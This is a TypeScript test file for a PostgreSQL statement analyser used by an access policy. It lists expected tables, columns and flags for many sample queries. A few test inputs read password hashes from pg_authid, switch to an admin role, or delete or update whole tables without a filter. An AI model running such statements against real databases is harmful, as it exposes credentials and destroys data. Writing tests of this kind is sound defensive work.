/**
 * The analyser's corpus: each case is a statement (or string of statements) and what the policy
 * must see in it, phrased as the verdict it protects. Unlisted fields are not asserted; listed
 * ones are compared exactly (as sorted text forms, see test-format.ts).
 */
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { testCatalog } from './fixture.ts';
import { analyse, loadParser, type Special, type StatementAnalysis, type StatementClass } from './index.ts';
import { fmtDdl, fmtFunction, fmtSetting, fmtTable, fmtUse } from './test-format.ts';

interface Expect {
  node?: string;
  command?: string;
  class?: StatementClass;
  tables?: string[];
  uses?: string[];
  functions?: string[];
  specials?: Special[];
  ddl?: string[];
  settings?: string[];
  /** true: some reason; a RegExp: the reason matches; false: must be understood. */
  unsupported?: boolean | RegExp;
  objectName?: string;
  doLanguage?: string;
  text?: string;
  inner?: Expect;
}

interface Case {
  name: string;
  sql: string;
  path?: string[];
  /** Number of statements (default 1). */
  count?: number;
  /** Which statement `expect` describes (default 0). */
  at?: number;
  expect: Expect;
}

const sorted = (xs: string[]): string[] => [...xs].sort();

function check(a: StatementAnalysis, e: Expect, where: string): void {
  if (e.node !== undefined) assert.equal(a.node, e.node, `${where}: node`);
  if (e.command !== undefined) assert.equal(a.command, e.command, `${where}: command`);
  if (e.class !== undefined) assert.equal(a.class, e.class, `${where}: class`);
  if (e.tables) assert.deepEqual(sorted(a.tables.map(fmtTable)), sorted(e.tables), `${where}: tables`);
  if (e.uses) assert.deepEqual(sorted(a.columnUses.map(fmtUse)), sorted(e.uses), `${where}: column uses`);
  if (e.functions) assert.deepEqual(sorted(a.functions.map(fmtFunction)), sorted(e.functions), `${where}: functions`);
  if (e.specials) assert.deepEqual(sorted(a.specials), sorted(e.specials), `${where}: specials`);
  if (e.ddl) assert.deepEqual(sorted(a.ddl.map(fmtDdl)), sorted(e.ddl), `${where}: ddl`);
  if (e.settings) assert.deepEqual(a.settings.map(fmtSetting), e.settings, `${where}: settings`);
  if (e.objectName !== undefined) assert.equal(a.objectName, e.objectName, `${where}: objectName`);
  if (e.doLanguage !== undefined) assert.equal(a.doLanguage, e.doLanguage, `${where}: doLanguage`);
  if (e.text !== undefined) assert.equal(a.text, e.text, `${where}: text`);
  if (e.unsupported === undefined || e.unsupported === false) {
    assert.equal(a.unsupported, undefined, `${where}: unexpectedly unsupported`);
  } else if (e.unsupported instanceof RegExp) {
    assert.match(a.unsupported ?? '', e.unsupported, `${where}: unsupported reason`);
  } else {
    assert.ok(a.unsupported, `${where}: expected unsupported`);
  }
  if (e.inner) {
    assert.ok(a.inner, `${where}: expected an inner analysis`);
    check(a.inner, e.inner, `${where} (inner)`);
  }
}

const C = 'public.customers';
const CALL = '[email,id,name,phone,ssn]';
const O = 'public.orders';
const OALL = '[customer_id,id,status,total]';

export const cases: Case[] = [
  // ── reads: columns, stars, whole rows ────────────────────────────────────────────────────────
  { name: 'named columns are the columns read', sql: 'SELECT id, name FROM customers', expect: { node: 'SelectStmt', command: 'select', class: 'read', tables: [`select ${C} [id,name]`], specials: [], functions: [] } },
  { name: 'SELECT * reads every column', sql: 'SELECT * FROM customers', expect: { tables: [`select ${C} ${CALL}`] } },
  { name: 'TABLE t reads every column', sql: 'TABLE customers', expect: { tables: [`select ${C} ${CALL}`], class: 'read' } },
  { name: 't.* reads every column of t only', sql: 'SELECT c.* FROM customers c JOIN orders o ON o.customer_id = c.id', expect: { tables: [`select ${C} ${CALL}`, `select ${O} [customer_id]`], uses: [`join ${C}.id =`, `join ${O}.customer_id =`] } },
  { name: 'count(*) reads the table but no column', sql: 'SELECT count(*) FROM orders', expect: { tables: [`select ${O} []`], functions: ['pg_catalog.count'] } },
  { name: 'a schema-qualified column reference binds to the unaliased relation', sql: 'SELECT public.customers.email FROM public.customers', expect: { tables: [`select ${C} [email]`] } },
  { name: 'a bare relation alias is a whole-row read', sql: 'SELECT c FROM customers c', expect: { tables: [`select ${C} ${CALL}`] } },
  { name: 'row_to_json of a row reads every column', sql: 'SELECT row_to_json(c) FROM customers c', expect: { tables: [`select ${C} ${CALL}`], functions: ['pg_catalog.row_to_json'] } },
  { name: 'c.* inside a function reads every column', sql: 'SELECT to_json(c.*) FROM customers c', expect: { tables: [`select ${C} ${CALL}`] } },
  { name: 'a composite field of a whole row reads the row', sql: 'SELECT (c).name FROM customers c', expect: { tables: [`select ${C} ${CALL}`] } },
  { name: 'a qualified system column is the column, not functional notation', sql: 'SELECT c.tableoid, c.ctid, c.xmin FROM customers c', expect: { tables: [`select ${C} [ctid,tableoid,xmin]`], functions: [] } },
  { name: 'a view has no system columns: v.ctid is ctid(v)', sql: 'SELECT v.ctid FROM customer_emails v', expect: { functions: ['?.ctid'] } },
  { name: 'functional notation t.f is f(t): a call on the whole row', sql: 'SELECT c.customer_tier FROM customers c', expect: { tables: [`select ${C} ${CALL}`], functions: ['public.customer_tier'] } },
  { name: 'an ambiguous column is recorded against every relation that has it', sql: 'SELECT id FROM customers, orders', expect: { tables: [`select ${C} [id]`, `select ${O} [id]`] } },
  { name: 'a column the catalog does not know is still recorded', sql: 'SELECT ssn_v2 FROM customers', expect: { tables: [`select ${C} [ssn_v2]`] } },
  { name: 'a relation the catalog does not know reads all columns for *', sql: 'SELECT * FROM nowhere', expect: { tables: ['select ?public.nowhere [*]'] } },
  { name: 'a column of an unknown relation binds to it', sql: 'SELECT a, b FROM nowhere', expect: { tables: ['select ?public.nowhere [a,b]'] } },
  { name: 'an unknown relation next to a known one takes names the known one lacks', sql: 'SELECT ssn, zz FROM customers, nowhere', expect: { tables: [`select ${C} [ssn]`, 'select ?public.nowhere [zz]'] } },
  { name: 'a quoted mixed-case name is a different table', sql: 'SELECT secret FROM "Customers"', expect: { tables: ['select public.Customers [secret]'] } },
  { name: 'an unquoted name folds to lower case', sql: 'SELECT Name FROM CUSTOMERS', expect: { tables: [`select ${C} [name]`] } },
  { name: 'a U&"…" identifier decodes to the table it spells', sql: 'SELECT ssn FROM U&"\\0063ustomers"', expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'a U&"…" column decodes too', sql: 'SELECT U&"\\0073sn" FROM customers', expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'an unqualified name resolves to the first search_path schema that has it', sql: 'SELECT name FROM customers', path: ['app', 'public'], expect: { tables: ['select app.customers [name]'] } },
  { name: 'search_path sales shadows public.orders', sql: 'SELECT * FROM orders', path: ['sales', 'public'], expect: { tables: ['select sales.orders [amount,customer_id,id,region]'] } },
  { name: '"$user" in search_path is the gateway role (app)', sql: 'SELECT * FROM customers', path: ['"$user"', 'public'], expect: { tables: ['select app.customers [api_key,id,name]'] } },
  { name: 'a schema not in search_path is still used when written', sql: 'SELECT amount FROM sales.orders', expect: { tables: ['select sales.orders [amount]'] } },
  { name: 'pg_catalog is searched first', sql: 'SELECT rolpassword FROM pg_authid', expect: { tables: ['select pg_catalog.pg_authid [rolpassword]'] } },
  { name: 'pg_temp in search_path is ignored', sql: 'SELECT ssn FROM customers', path: ['pg_temp', 'public'], expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'an unknown schema keeps its written name', sql: 'SELECT * FROM nope.t', expect: { tables: ['select ?nope.t [*]'] } },
  { name: 'a view counts as the view itself', sql: 'SELECT email FROM customer_emails', expect: { tables: ['select public.customer_emails [email]'] } },
  { name: 'a sequence read is a read of the sequence', sql: 'SELECT last_value FROM order_seq', expect: { tables: ['select public.order_seq [last_value]'] } },
  { name: 'columns renamed by a table alias map back to the real columns', sql: 'SELECT b FROM customers AS c(a, b)', expect: { tables: [`select ${C} [name]`] } },
  { name: 'SELECT without FROM reads nothing', sql: 'SELECT 1 + 2', expect: { tables: [], functions: [], class: 'read' } },

  // ── filters, groups, orders ──────────────────────────────────────────────────────────────────
  { name: 'WHERE col = const is a filter with its operator', sql: "SELECT id FROM customers WHERE ssn = '123'", expect: { tables: [`select ${C} [id,ssn]`], uses: [`filter ${C}.ssn =`] } },
  { name: 'LIKE is recorded as like', sql: "SELECT id FROM customers WHERE email LIKE '%@corp'", expect: { uses: [`filter ${C}.email like`] } },
  { name: 'NOT LIKE and ILIKE are told apart', sql: "SELECT id FROM customers WHERE email NOT LIKE 'a%' AND name ILIKE 'b%'", expect: { uses: [`filter ${C}.email not like`, `filter ${C}.name ilike`] } },
  { name: 'IN list is recorded as in', sql: "SELECT id FROM orders WHERE status IN ('a', 'b')", expect: { uses: [`filter ${O}.status in`] } },
  { name: 'NOT IN is recorded as not in', sql: "SELECT id FROM orders WHERE status NOT IN ('a')", expect: { uses: [`filter ${O}.status not in`] } },
  { name: 'BETWEEN is recorded as between', sql: 'SELECT id FROM orders WHERE total BETWEEN 1 AND 2', expect: { uses: [`filter ${O}.total between`] } },
  { name: 'IS NULL is recorded as is null', sql: 'SELECT id FROM customers WHERE phone IS NULL', expect: { uses: [`filter ${C}.phone is null`] } },
  { name: 'IS NOT NULL is recorded as is not null', sql: 'SELECT id FROM customers WHERE ssn IS NOT NULL', expect: { uses: [`filter ${C}.ssn is not null`] } },
  { name: 'a function of a column in WHERE names the function', sql: "SELECT id FROM customers WHERE lower(email) = 'x'", expect: { uses: [`filter ${C}.email lower`], functions: ['pg_catalog.lower'] } },
  { name: '= ANY(array) is recorded as = any', sql: 'SELECT id FROM orders WHERE id = ANY(ARRAY[1, 2])', expect: { uses: [`filter ${O}.id = any`] } },
  { name: 'IS DISTINCT FROM is recorded', sql: 'SELECT id FROM orders WHERE status IS DISTINCT FROM NULL', expect: { uses: [`filter ${O}.status is distinct from`] } },
  { name: 'a column compared with a column gives both the operator', sql: 'SELECT 1 FROM customers c, orders o WHERE c.id < o.customer_id', expect: { uses: [`filter ${C}.id <`, `filter ${O}.customer_id <`] } },
  { name: 'a column inside a function inside an expression names the function', sql: "SELECT 1 FROM customers WHERE substr(ssn, 1, 3) || 'x' = 'abc'", expect: { uses: [`filter ${C}.ssn substr`] } },
  { name: 'a column deep in an expression is a filter without operator', sql: "SELECT 1 FROM customers WHERE coalesce(ssn, phone) = 'abc'", expect: { uses: [`filter ${C}.phone`, `filter ${C}.ssn`] } },
  { name: 'the operator applied directly to a column is recorded', sql: "SELECT 1 FROM customers WHERE (ssn || 'x') = 'abc'", expect: { uses: [`filter ${C}.ssn ||`] } },
  { name: 'IN (subquery) filters the outer column', sql: "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE status = 'open')", expect: { tables: [`select ${C} [id,name]`, `select ${O} [customer_id,status]`], uses: [`filter ${C}.id in`, `filter ${O}.customer_id in`, `filter ${O}.status =`] } },
  { name: 'GROUP BY and HAVING columns are group and filter uses', sql: 'SELECT status, count(*) FROM orders GROUP BY status HAVING sum(total) > 100', expect: { tables: [`select ${O} [status,total]`], uses: [`group ${O}.status`, `filter ${O}.total sum`] } },
  { name: 'GROUP BY an output alias groups by the columns of the output expression', sql: 'SELECT lower(status) AS s FROM orders GROUP BY s', expect: { tables: [`select ${O} [status]`], uses: [`group ${O}.status`] } },
  { name: 'ORDER BY an output alias orders by the aliased column', sql: 'SELECT name AS n FROM customers ORDER BY n', expect: { tables: [`select ${C} [name]`], uses: [`order ${C}.name`] } },
  { name: 'ORDER BY a position orders by that output column', sql: 'SELECT name, email FROM customers ORDER BY 2 DESC', expect: { uses: [`order ${C}.email`] } },
  { name: 'ORDER BY a column not in the output reads it', sql: 'SELECT name FROM customers ORDER BY ssn', expect: { tables: [`select ${C} [name,ssn]`], uses: [`order ${C}.ssn`] } },
  { name: 'window PARTITION BY and ORDER BY are group and order uses', sql: 'SELECT row_number() OVER (PARTITION BY status ORDER BY total) FROM orders', expect: { tables: [`select ${O} [status,total]`], uses: [`group ${O}.status`, `order ${O}.total`], functions: ['pg_catalog.row_number'] } },
  { name: 'a named WINDOW clause is walked', sql: 'SELECT rank() OVER w FROM orders WINDOW w AS (ORDER BY total)', expect: { tables: [`select ${O} []`.replace('[]', '[total]')], uses: [`order ${O}.total`] } },
  { name: 'DISTINCT ON reads its expressions', sql: 'SELECT DISTINCT ON (customer_id) id FROM orders', expect: { tables: [`select ${O} [customer_id,id]`] } },
  { name: 'aggregate FILTER is a filter', sql: "SELECT count(*) FILTER (WHERE status = 'x') FROM orders", expect: { tables: [`select ${O} [status]`], uses: [`filter ${O}.status =`] } },
  { name: 'aggregate ORDER BY reads its columns', sql: "SELECT string_agg(name, ',' ORDER BY ssn) FROM customers", expect: { tables: [`select ${C} [name,ssn]`] } },
  { name: 'GROUPING SETS and GROUPING() read their columns', sql: 'SELECT grouping(status), sum(total) FROM orders GROUP BY GROUPING SETS ((status), (customer_id))', expect: { tables: [`select ${O} [customer_id,status,total]`] } },
  { name: 'a parameter compared with a column is a filter', sql: 'SELECT name FROM customers WHERE id = $1', expect: { uses: [`filter ${C}.id =`] } },

  // ── joins ────────────────────────────────────────────────────────────────────────────────────
  { name: 'JOIN USING reads the column on both sides', sql: 'SELECT o.status FROM orders o JOIN customers c USING (id)', expect: { tables: [`select ${C} [id]`, `select ${O} [id,status]`], uses: [`join ${C}.id =`, `join ${O}.id =`] } },
  { name: 'NATURAL JOIN reads the common columns', sql: 'SELECT 1 FROM orders NATURAL JOIN customers', expect: { tables: [`select ${C} [id]`, `select ${O} [id]`] } },
  { name: 'LEFT JOIN ON is a join use', sql: 'SELECT c.name FROM customers c LEFT JOIN orders o ON o.customer_id = c.id AND o.status = \'x\'', expect: { tables: [`select ${C} [id,name]`, `select ${O} [customer_id,status]`] } },
  { name: 'an aliased join hides its members but keeps their columns', sql: 'SELECT j.ssn, j.total FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j', expect: { tables: [`select ${C} [id,ssn]`, `select ${O} [customer_id,total]`] } },
  { name: 'a join between schemas with the same table name', sql: 'SELECT s.amount, p.total FROM sales.orders s JOIN public.orders p ON p.id = s.id', expect: { tables: ['select sales.orders [amount,id]', `select ${O} [id,total]`] } },

  // ── subqueries, derived tables, set operations, VALUES, LATERAL ──────────────────────────────
  { name: 'a correlated subquery resolves qualified outer references', sql: 'SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id AND total > 5)', expect: { tables: [`select ${C} [id,name]`, `select ${O} [customer_id,total]`] } },
  { name: 'an unqualified outer reference binds to the outer table that has it', sql: 'SELECT name FROM customers WHERE EXISTS (SELECT 1 FROM orders WHERE customer_id = customers.id AND ssn IS NOT NULL)', expect: { tables: [`select ${C} [id,name,ssn]`, `select ${O} [customer_id]`] } },
  { name: 'a scalar subquery in the select list is read', sql: 'SELECT (SELECT max(total) FROM orders o WHERE o.customer_id = c.id) FROM customers c', expect: { tables: [`select ${C} [id]`, `select ${O} [customer_id,total]`] } },
  { name: 'a derived table reads what its select list names', sql: 'SELECT s.n FROM (SELECT name AS n FROM customers) s', expect: { tables: [`select ${C} [name]`] } },
  { name: 'a derived table with * reads every column', sql: 'SELECT x.name FROM (SELECT * FROM customers) x', expect: { tables: [`select ${C} ${CALL}`] } },
  { name: 'a subquery alias is not a relation', sql: 'SELECT * FROM (SELECT 1 AS a) AS customers', expect: { tables: [] } },
  { name: 'LATERAL sees earlier FROM items', sql: 'SELECT c.name, l.total FROM customers c, LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id) l', expect: { tables: [`select ${C} [id,name]`, `select ${O} [customer_id,total]`] } },
  { name: 'UNION reads both sides', sql: 'SELECT name FROM customers UNION SELECT status FROM orders ORDER BY 1', expect: { tables: [`select ${C} [name]`, `select ${O} [status]`] } },
  { name: 'EXCEPT and INTERSECT read every branch', sql: 'SELECT id FROM customers EXCEPT (SELECT customer_id FROM orders INTERSECT SELECT id FROM sales.orders)', expect: { tables: [`select ${C} [id]`, `select ${O} [customer_id]`, 'select sales.orders [id]'] } },
  { name: 'VALUES alone reads nothing', sql: "VALUES (1, 'a'), (2, 'b')", expect: { command: 'values', class: 'read', tables: [] } },
  { name: 'a subquery inside VALUES is read', sql: 'VALUES ((SELECT ssn FROM customers LIMIT 1))', expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'VALUES in FROM joins with a table', sql: 'SELECT c.email FROM (VALUES (1)) v(x) JOIN customers c ON c.id = v.x', expect: { tables: [`select ${C} [email,id]`] } },
  { name: 'a function in FROM is not a relation', sql: 'SELECT g FROM generate_series(1, 3) g', expect: { tables: [], functions: ['pg_catalog.generate_series(1,3)'] } },
  { name: 'a function aliased as a table name is not that table', sql: 'SELECT * FROM generate_series(1, 2) AS customers', expect: { tables: [] } },
  { name: 'a function in FROM may read earlier items', sql: 'SELECT * FROM customers c, LATERAL generate_series(1, length(c.ssn)) g', expect: { tables: [`select ${C} ${CALL}`], functions: ['pg_catalog.generate_series(1,_)', 'pg_catalog.length'] } },
  { name: 'a subquery in LIMIT is read', sql: 'SELECT name FROM customers LIMIT (SELECT count(*) FROM orders)', expect: { tables: [`select ${C} [name]`, `select ${O} []`] } },
  { name: 'JSON_TABLE reads its context item', sql: "SELECT jt.a FROM customers c, JSON_TABLE(c.name::jsonb, '$' COLUMNS (a int PATH '$.a')) jt", expect: { tables: [`select ${C} [name]`] } },
  { name: 'XMLTABLE reads its document', sql: "SELECT x.y FROM customers c, XMLTABLE('/a' PASSING (c.email::xml) COLUMNS y int PATH 'y') x", expect: { tables: [`select ${C} [email]`] } },
  { name: 'TABLESAMPLE reads the sampled table', sql: 'SELECT name FROM customers TABLESAMPLE SYSTEM (10)', expect: { tables: [`select ${C} [name]`] } },

  // ── CTEs ─────────────────────────────────────────────────────────────────────────────────────
  { name: 'a CTE body is read; the CTE name is not a relation', sql: 'WITH x AS (SELECT name FROM customers) SELECT * FROM x', expect: { tables: [`select ${C} [name]`] } },
  { name: 'a CTE shadowing a table is not the table', sql: 'WITH customers AS (SELECT 1 AS id) SELECT id FROM customers', expect: { tables: [] } },
  { name: 'a schema-qualified name is never a CTE', sql: 'WITH customers AS (SELECT 1 AS id) SELECT ssn FROM public.customers', expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'a recursive CTE reads nothing by itself', sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r', expect: { tables: [] } },
  { name: 'a recursive CTE over tables reads them', sql: 'WITH RECURSIVE t(id) AS (SELECT id FROM customers UNION SELECT o.customer_id FROM orders o JOIN t ON o.id = t.id) SELECT * FROM t', expect: { tables: [`select ${C} [id]`, `select ${O} [customer_id,id]`] } },
  { name: 'a later CTE sees an earlier one', sql: 'WITH a AS (SELECT ssn FROM customers), b AS (SELECT ssn FROM a) SELECT * FROM b', expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'a CTE shadows only inside its own query', sql: 'SELECT s.x, customers.ssn FROM (WITH customers AS (SELECT 1 AS x) SELECT x FROM customers) s, customers', expect: { tables: [`select ${C} [ssn]`] } },
  { name: 'a nested query sees the outer CTE', sql: 'WITH o AS (SELECT customer_id FROM orders) SELECT name FROM customers WHERE id IN (SELECT customer_id FROM o)', expect: { tables: [`select ${C} [id,name]`, `select ${O} [customer_id]`] } },
  { name: 'a recursive CTE named like a table shadows it', sql: 'WITH RECURSIVE orders(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM orders WHERE id < 3) SELECT * FROM orders', expect: { tables: [] } },

  // ── locking reads ────────────────────────────────────────────────────────────────────────────
  { name: 'SELECT FOR UPDATE needs update and is a write', sql: 'SELECT id FROM orders WHERE id = 1 FOR UPDATE', expect: { class: 'write', tables: [`select ${O} [id]`, `update ${O} []`], specials: ['lock'] } },
  { name: 'FOR SHARE OF one table locks only it', sql: 'SELECT 1 FROM orders o, customers c WHERE o.customer_id = c.id FOR SHARE OF o', expect: { tables: [`select ${C} [id]`, `select ${O} [customer_id]`, `update ${O} []`] } },

  // ── expressions ──────────────────────────────────────────────────────────────────────────────
  { name: 'CASE reads its branches', sql: "SELECT CASE WHEN total > 10 THEN status ELSE 'x' END FROM orders", expect: { tables: [`select ${O} [status,total]`] } },
  { name: 'COALESCE, GREATEST and NULLIF read their arguments and are not functions', sql: 'SELECT coalesce(phone, email), greatest(id, 1), nullif(name, ssn) FROM customers', expect: { tables: [`select ${C} ${CALL}`], functions: [] } },
  { name: 'array subscripts and constructors read their columns', sql: 'SELECT (ARRAY[name, ssn])[id] FROM customers', expect: { tables: [`select ${C} [id,name,ssn]`] } },
  { name: 'ROW() reads its columns', sql: 'SELECT ROW(name, email) FROM customers', expect: { tables: [`select ${C} [email,name]`] } },
  { name: 'COLLATE and casts read through', sql: 'SELECT name COLLATE "C", ssn::int FROM customers', expect: { tables: [`select ${C} [name,ssn]`] } },
  { name: 'SQL value functions are not reads', sql: 'SELECT current_user, session_user, current_timestamp', expect: { tables: [], functions: [] } },
  { name: 'XML functions read their arguments', sql: 'SELECT xmlelement(name x, xmlattributes(email AS e), name) FROM customers', expect: { tables: [`select ${C} [email,name]`] } },
  { name: 'JSON constructors read their arguments', sql: "SELECT json_object('n': name), json_arrayagg(ssn ORDER BY id) FROM customers", expect: { tables: [`select ${C} [id,name,ssn]`] } },
  { name: 'JSON_VALUE reads its context and defaults', sql: "SELECT JSON_VALUE(name::jsonb, '$.a' DEFAULT mask_ssn(ssn) ON EMPTY) FROM customers", expect: { tables: [`select ${C} [name,ssn]`], functions: ['public.mask_ssn'] } },
  { name: 'IS JSON reads its column', sql: 'SELECT email IS JSON FROM customers', expect: { tables: [`select ${C} [email]`] } },
  { name: 'named arguments are walked', sql: "SELECT concat(VARIADIC ARRAY[name]), mask_ssn(x => ssn) FROM customers", expect: { tables: [`select ${C} [name,ssn]`] } },

  // ── multi-statement strings and text ────────────────────────────────────────────────────────
  { name: 'every statement of a string is analysed (1: select)', sql: 'SELECT 1; DELETE FROM orders WHERE id = 1; SET ROLE admin', count: 3, expect: { command: 'select', text: 'SELECT 1' } },
  { name: 'every statement of a string is analysed (2: delete)', sql: 'SELECT 1; DELETE FROM orders WHERE id = 1; SET ROLE admin', count: 3, at: 1, expect: { command: 'delete', class: 'write', text: 'DELETE FROM orders WHERE id = 1' } },
  { name: 'every statement of a string is analysed (3: set role)', sql: 'SELECT 1; DELETE FROM orders WHERE id = 1; SET ROLE admin', count: 3, at: 2, expect: { settings: ['set_role role=admin'], text: 'SET ROLE admin' } },
  { name: 'statement text is sliced by UTF-8 bytes', sql: "SELECT 'é€'; SELECT name AS \"naïve\" FROM customers", count: 2, at: 1, expect: { text: 'SELECT name AS "naïve" FROM customers', tables: [`select ${C} [name]`] } },
  { name: 'statement text survives astral characters', sql: "SELECT '😀😀' ;\n  DELETE FROM orders -- bye 😀\n", count: 2, at: 1, expect: { text: 'DELETE FROM orders -- bye 😀', specials: ['delete_without_where'] } },

  // ── INSERT ───────────────────────────────────────────────────────────────────────────────────
  { name: 'INSERT writes its column list', sql: 'INSERT INTO orders (customer_id, total) VALUES (1, 2)', expect: { node: 'InsertStmt', command: 'insert', class: 'write', tables: [`insert ${O} [customer_id,total]`] } },
  { name: 'INSERT without a column list writes every column', sql: "INSERT INTO orders VALUES (1, 2, 'x', 3)", expect: { tables: [`insert ${O} ${OALL}`] } },
  { name: 'INSERT … SELECT reads the source', sql: 'INSERT INTO audit (detail) SELECT ssn FROM customers', expect: { tables: ['insert public.audit [detail]', `select ${C} [ssn]`] } },
  { name: 'INSERT DEFAULT VALUES writes every column', sql: 'INSERT INTO audit DEFAULT VALUES', expect: { tables: ['insert public.audit [actor,at,detail,id]'] } },
  { name: 'a function in INSERT VALUES is recorded with its constant', sql: "INSERT INTO audit (id, detail) VALUES (nextval('order_seq'), DEFAULT)", expect: { functions: ['pg_catalog.nextval(order_seq)'], tables: ['insert public.audit [detail,id]', 'update public.order_seq []'] } },
  { name: 'a subquery in INSERT VALUES is read', sql: 'INSERT INTO audit (detail) VALUES ((SELECT ssn FROM customers WHERE id = 1))', expect: { tables: ['insert public.audit [detail]', `select ${C} [id,ssn]`] } },
  { name: 'ON CONFLICT DO UPDATE is an insert and an update', sql: 'INSERT INTO orders AS o (id, status) VALUES (1, \'x\') ON CONFLICT (id) DO UPDATE SET status = excluded.status WHERE o.total > 0', expect: { tables: [`insert ${O} [id,status]`, `update ${O} [status]`, `select ${O} [id,total]`] } },
  { name: 'ON CONFLICT DO NOTHING is only an insert', sql: "INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", expect: { tables: [`insert ${O} [id]`] } },
  { name: 'INSERT RETURNING reads the returned columns', sql: "INSERT INTO customers (name) VALUES ('a') RETURNING id, ssn", expect: { tables: [`insert ${C} [name]`, `select ${C} [id,ssn]`] } },
  { name: 'INSERT RETURNING * reads every column', sql: "INSERT INTO customers (name) VALUES ('a') RETURNING *", expect: { tables: [`insert ${C} [name]`, `select ${C} ${CALL}`] } },
  { name: 'INSERT into an unknown table writes all of its unknown columns', sql: 'INSERT INTO nowhere VALUES (1)', expect: { tables: ['insert ?public.nowhere [*]'] } },
  { name: 'INSERT into an array element writes the column', sql: 'INSERT INTO audit (detail[1]) VALUES (\'x\')', expect: { tables: ['insert public.audit [detail]'] } },

  // ── UPDATE ───────────────────────────────────────────────────────────────────────────────────
  { name: 'UPDATE writes SET columns and reads WHERE columns', sql: "UPDATE orders SET status = 'x' WHERE id = 1", expect: { command: 'update', class: 'write', tables: [`update ${O} [status]`, `select ${O} [id]`], uses: [`filter ${O}.id =`], specials: [] } },
  { name: 'UPDATE without WHERE is flagged', sql: "UPDATE orders SET status = 'x'", expect: { specials: ['update_without_where'], tables: [`update ${O} [status]`] } },
  { name: 'UPDATE reading its own column records the read', sql: 'UPDATE orders SET total = total + 1 WHERE id = 1', expect: { tables: [`update ${O} [total]`, `select ${O} [id,total]`] } },
  { name: 'UPDATE … FROM reads the other table', sql: "UPDATE orders o SET status = 'vip' FROM customers c WHERE c.id = o.customer_id AND c.ssn LIKE '1%'", expect: { tables: [`update ${O} [status]`, `select ${O} [customer_id]`, `select ${C} [id,ssn]`], uses: [`filter ${C}.id =`, `filter ${O}.customer_id =`, `filter ${C}.ssn like`] } },
  { name: 'UPDATE (a, b) = (SELECT …) writes both and reads the source', sql: 'UPDATE orders SET (status, total) = (SELECT name, id FROM customers WHERE id = 1) WHERE id = 2', expect: { tables: [`update ${O} [status,total]`, `select ${O} [id]`, `select ${C} [id,name]`] } },
  { name: 'UPDATE WHERE CURRENT OF has a WHERE', sql: "UPDATE orders SET status = 'x' WHERE CURRENT OF cur", expect: { specials: [] } },
  { name: 'UPDATE RETURNING old and new reads the row', sql: "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING old.ssn, new.name", expect: { tables: [`update ${C} [name]`, `select ${C} [id,name,ssn]`] } },
  { name: 'UPDATE of a view is an update of the view', sql: "UPDATE customer_emails SET email = 'x' WHERE id = 1", expect: { tables: ['update public.customer_emails [email]', 'select public.customer_emails [id]'] } },

  // ── DELETE ───────────────────────────────────────────────────────────────────────────────────
  { name: 'DELETE with WHERE reads the filter columns', sql: "DELETE FROM orders WHERE status = 'x'", expect: { command: 'delete', tables: [`delete ${O} []`, `select ${O} [status]`], specials: [] } },
  { name: 'DELETE without WHERE is flagged', sql: 'DELETE FROM orders', expect: { specials: ['delete_without_where'], tables: [`delete ${O} []`] } },
  { name: 'DELETE … USING reads the other table', sql: "DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.email = 'x'", expect: { tables: [`delete ${O} []`, `select ${O} [customer_id]`, `select ${C} [email,id]`] } },
  { name: 'DELETE RETURNING * reads every column', sql: 'DELETE FROM customers WHERE id = 1 RETURNING *', expect: { tables: [`delete ${C} []`, `select ${C} ${CALL}`] } },

  // ── MERGE ────────────────────────────────────────────────────────────────────────────────────
  {
    name: 'MERGE records each action as its operation',
    sql: 'MERGE INTO orders t USING sales.orders s ON t.id = s.id WHEN MATCHED AND s.amount > 0 THEN UPDATE SET total = s.amount WHEN NOT MATCHED THEN INSERT (id, total) VALUES (s.id, s.amount) WHEN MATCHED THEN DELETE',
    expect: { command: 'merge', class: 'write', tables: [`update ${O} [total]`, `insert ${O} [id,total]`, `delete ${O} []`, `select ${O} [id]`, 'select sales.orders [amount,id]'] },
  },
  { name: 'MERGE … DO NOTHING reads but writes nothing', sql: 'MERGE INTO orders t USING customers c ON t.customer_id = c.id WHEN MATCHED THEN DO NOTHING', expect: { tables: [`select ${O} [customer_id]`, `select ${C} [id]`] } },
  { name: 'MERGE with a subquery source reads it', sql: 'MERGE INTO audit a USING (SELECT id, ssn FROM customers) s ON a.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id, now(), \'x\', s.ssn)', expect: { tables: ['insert public.audit [actor,at,detail,id]', 'select public.audit [id]', `select ${C} [id,ssn]`] } },

  // ── TRUNCATE ─────────────────────────────────────────────────────────────────────────────────
  { name: 'TRUNCATE names each table', sql: 'TRUNCATE orders, sales.orders RESTART IDENTITY', expect: { command: 'truncate', class: 'write', tables: [`truncate ${O} []`, 'truncate sales.orders []'] } },
  { name: 'TRUNCATE follows search_path', sql: 'TRUNCATE TABLE orders', path: ['sales'], expect: { tables: ['truncate sales.orders []'] } },

  // ── data-modifying CTEs ──────────────────────────────────────────────────────────────────────
  { name: 'DML in a CTE is a write', sql: "WITH d AS (DELETE FROM orders WHERE status = 'x' RETURNING *) SELECT count(*) FROM d", expect: { class: 'write', specials: ['cte_write'], tables: [`delete ${O} []`, `select ${O} ${OALL}`] } },
  { name: 'INSERT in a CTE fed by the outer query is a write', sql: 'WITH i AS (INSERT INTO audit (detail) SELECT ssn FROM customers RETURNING id) SELECT * FROM i', expect: { class: 'write', specials: ['cte_write'], tables: ['insert public.audit [detail]', 'select public.audit [id]', `select ${C} [ssn]`] } },
  { name: 'UPDATE without WHERE in a CTE is flagged', sql: "WITH u AS (UPDATE orders SET status = 'x' RETURNING id) SELECT 1", expect: { specials: ['cte_write', 'update_without_where'], class: 'write' } },
